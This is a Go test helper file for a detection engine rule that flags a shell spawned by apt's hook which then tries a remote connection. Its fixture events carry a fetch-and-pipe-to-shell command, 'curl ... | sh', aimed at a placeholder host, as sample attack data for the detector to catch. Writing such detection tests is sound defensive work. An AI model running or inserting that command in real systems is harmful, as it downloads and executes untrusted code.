package rules

import (
	"net/netip"
	"testing"
	"time"

	"github.com/aptsentinel/aptsentinel/eql"
)

// t0 is an arbitrary event time; tests express times as offsets from it.
var t0 = time.Date(2026, 3, 24, 12, 0, 0, 0, time.UTC)

// seed is the seed rule loaded once from its shipped file; the predicate
// helpers below evaluate its steps, so every test of the hand-coded rule it
// replaced now runs through the file.
var seed = AptNetcon()

// isAptHookShell is event 1 of the seed rule (category and condition).
func isAptHookShell(ev *Event) bool { return seed.Query.Matches(0, ev) }

// isRemoteConnectAttempt is event 2 of the seed rule.
func isRemoteConnectAttempt(ev *Event) bool { return seed.Query.Matches(1, ev) }

// destinationIsRemote reports whether a connect to addr passes event 2.
func destinationIsRemote(addr netip.Addr) bool {
	ev := connectFrom("h", "p", "8.8.8.8", 0)
	ev.Destination = netip.AddrPortFrom(addr, 80)
	return isRemoteConnectAttempt(ev)
}

// aptHookShells is the process.name list of event 1 (DESIGN.md).
var aptHookShells = []string{"bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish"}

// processEntityID is the join key "by process.entity_id".
func processEntityID(ev *Event) string { return ev.Process.EntityID }

// shellExec is an event-1 candidate: `/bin/sh -c hook` exec'd by apt's fork
// (entity parentID) as the process entityID on host.
func shellExec(host, entityID string, at time.Duration) *Event {
	return &Event{
		Time:   t0.Add(at),
		Action: ActionExec,
		HostID: host,
		Process: Process{
			PID: 200, EntityID: entityID, Name: "sh", Executable: "/usr/bin/dash",
			Args:   []string{"/bin/sh", "-c", "curl -s http://example.invalid/x | sh"},
			Parent: Parent{PID: 100, EntityID: "apt-fork", Name: "apt", Executable: "/usr/bin/apt"},
		},
	}
}

// connectFrom is an event-2 candidate: a child of parentID on host tries to
// connect to ip.
func connectFrom(host, parentID, ip string, at time.Duration) *Event {
	return &Event{
		Time:   t0.Add(at),
		Action: ActionConnectionAttempt,
		HostID: host,
		Process: Process{
			PID: 300, EntityID: "child-of-" + parentID, Name: "curl", Executable: "/usr/bin/curl",
			Args:   []string{"curl", "-s", "http://example.invalid/x"},
			Parent: Parent{PID: 200, EntityID: parentID, Name: "sh", Executable: "/usr/bin/dash"},
		},
		Destination: netip.AddrPortFrom(netip.MustParseAddr(ip), 80),
		Outcome:     "failure",
		Errno:       "ENETUNREACH",
	}
}

// newAptEngine returns an engine running only the seed rule.
func newAptEngine(t testing.TB, cfg EngineConfig) *Engine {
	t.Helper()
	e, err := NewEngine([]*Rule{AptNetcon()}, cfg)
	if err != nil {
		t.Fatalf("NewEngine: %v", err)
	}
	return e
}

// checkAccounting asserts the EngineStats identity: every started sequence
// is pending or ended in exactly one way.
func checkAccounting(t testing.TB, e *Engine) {
	t.Helper()
	s := e.Stats()
	ended := s.Matches + s.Replaced + s.Expired + s.Evicted + s.Until + s.Dropped + uint64(s.Pending)
	if s.Pending < 0 || s.Started != ended {
		t.Fatalf("stats do not add up: %+v (started %d, ended or pending %d)", s, s.Started, ended)
	}
}

// testRule compiles query into a rule named after the test.
func testRule(t testing.TB, query string) *Rule {
	t.Helper()
	q, err := eql.Compile(query, Schema)
	if err != nil {
		t.Fatalf("compile %q: %v", query, err)
	}
	return &Rule{ID: "test-" + t.Name(), Name: t.Name(), Query: q, QueryText: query, MaxSpan: q.MaxSpan}
}

// wantMeta is the metadata a shipped rule's test pins; checkMeta compares
// it (and that the rule validates and comes built in).
type wantMeta struct {
	name      string
	version   int
	riskScore int
	severity  string
	maxspan   time.Duration
	steps     int
}

func checkMeta(t *testing.T, r *Rule, want wantMeta) {
	t.Helper()
	if err := r.Validate(); err != nil {
		t.Fatalf("Validate: %v", err)
	}
	for _, c := range []struct {
		name      string
		got, want any
	}{
		{"name", r.Name, want.name},
		{"version", r.Version, want.version},
		{"risk score", r.RiskScore, want.riskScore},
		{"severity", r.Severity, want.severity},
		{"maxspan", r.MaxSpan, want.maxspan},
		{"steps", r.Query.Steps(), want.steps},
		{"source", r.Source, SourceBuiltin},
	} {
		if c.got != c.want {
			t.Errorf("%s = %v, want %v", c.name, c.got, c.want)
		}
	}
}
